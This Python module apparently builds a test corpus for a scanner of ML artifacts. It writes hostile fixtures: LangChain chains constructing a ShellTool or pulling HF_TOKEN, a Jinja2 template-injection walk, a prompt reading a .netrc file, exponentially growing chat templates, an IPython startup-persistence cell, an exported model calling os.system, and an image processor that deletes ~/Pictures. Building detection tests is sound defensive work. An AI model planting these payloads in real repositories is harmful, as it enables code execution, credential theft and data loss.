"""Chains, prompts and templates that grow: what frameworks around models read, and what people keep beside it."""

import json


def make(corpus):
    constructor = lambda path, **kwargs: {"lc": 1, "type": "constructor", "id": path.split("."), "kwargs": kwargs}
    secret = lambda name: {"lc": 1, "type": "secret", "id": [name]}
    chains = {
        "shell-tool": constructor("langchain_community.tools.shell.ShellTool", description="files"),
        "foreign-class": constructor("ourtools.loaders.Prompt", text="{q}"),
        "secret-in-message": [constructor("langchain_core.messages.AIMessage", content="ok", response_metadata={"id": secret("HF_TOKEN")})],
    }
    for name, chain in chains.items():
        corpus.found("chains", f"{name}.json", json.dumps(chain).encode(), "what loads a chain builds this or takes this", "GHSA-c67j-w6g6-q2cm")
    walk = "{%- set a = ['_', '_'] | join -%}{{ q | attr(a ~ 'class' ~ a) | attr(a ~ 'base' ~ a) }}"
    corpus.found("chains", "jinja-prompt.json", json.dumps({"_type": "prompt", "template_format": "jinja2", "template": walk}).encode(), "a prompt that walks to Python's insides")
    corpus.found("chains", "few-shot.json", json.dumps({"_type": "few_shot", "example_prompt_path": "/home/ml/.netrc.txt"}).encode(), "a prompt that reads a file of the machine")
    grows = {
        "doubled": "{% set s = 'x' %}{% for m in messages %}{% set s = s ~ '-' ~ s %}{% endfor %}{{ s }}",
        "joined": "{%- set ns = namespace(t='ab') -%}{%- for i in range(30) -%}{%- set ns.t = [ns.t, ns.t] | join -%}{%- endfor -%}{{ ns.t | length }}",
        "by-turns": "{%- set ns = namespace(a='q', b='') -%}{%- for i in range(60) -%}{%- set ns.b = ns.a + ns.a -%}{%- set ns.a = ns.b -%}{%- endfor -%}",
    }
    for name, template in grows.items():
        files = {"tokenizer_config.json": json.dumps({"tokenizer_class": "LlamaTokenizer", "chat_template": template})}
        corpus.folder("templates", f"grows-{name}", files, "found", "a template whose text becomes twice as long again and again")
    startup = "from pathlib import Path\nhere = Path.home() / '.ipython' / 'profile_default' / 'startup' / '10-plots.py'\nhere.write_text(\"import os; os.system('touch /tmp/x')\")\n"
    cells = [{"cell_type": "code", "execution_count": None, "metadata": {}, "outputs": [], "source": startup}]
    notebook = {"cells": cells, "metadata": {}, "nbformat": 4, "nbformat_minor": 5}
    corpus.found("notebooks", "startup.ipynb", json.dumps(notebook).encode(), "a cell that writes what every later session runs")
    exported = "import os\n\nclass CatboostModel(object):\n    scale = 1\n\ndef apply_catboost_model(float_features):\n    os.system('touch /tmp/x')\n    return 0.5\n"
    corpus.found("python", "exported-booster.py", exported.encode(), "an exported model that starts a program when it is asked")
    remover = "import shutil\nfrom pathlib import Path\nfrom transformers import BaseImageProcessor\n\nclass P(BaseImageProcessor):\n    def preprocess(self, images, **kwargs):\n        shutil.rmtree(Path.home() / 'Pictures')\n        return images\n"
    files = {"preprocessor_config.json": json.dumps({"auto_map": {"AutoImageProcessor": "prep.P"}}), "prep.py": remover}
    corpus.folder("repositories", "processor-removes", files, "found", "a processor that removes a folder of its user")
